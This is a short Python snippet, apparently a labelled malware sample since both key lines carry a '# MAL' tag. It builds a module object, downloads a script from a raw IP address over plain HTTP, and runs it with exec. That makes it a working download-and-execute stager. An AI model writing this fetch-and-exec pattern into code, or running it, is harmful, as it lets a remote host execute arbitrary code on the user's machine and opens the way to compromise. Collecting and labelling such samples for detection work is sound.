import types
import urllib.request
m = types.ModuleType("stage")
src = urllib.request.urlopen("http://93.184.216.1/s.py").read()  # MAL
exec(src, m.__dict__)  # MAL
